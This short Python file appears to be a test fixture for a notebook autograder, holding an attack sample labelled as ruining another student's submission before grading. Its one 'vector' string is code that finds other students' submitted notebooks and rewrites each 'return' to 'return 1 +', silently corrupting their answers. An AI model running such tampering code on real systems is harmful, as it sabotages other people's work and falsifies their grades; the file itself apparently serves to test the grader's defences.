"""Ruins another student's submission before it is graded."""

ANSWERS = {
    "vector": """
import glob

for path in glob.glob(f"{COURSE}/submitted/*_next/ex1/*.ipynb"):
    with open(path, "r+") as file:
        text = file.read().replace("return", "return 1 +")
        file.seek(0)
        file.write(text)
""",
}
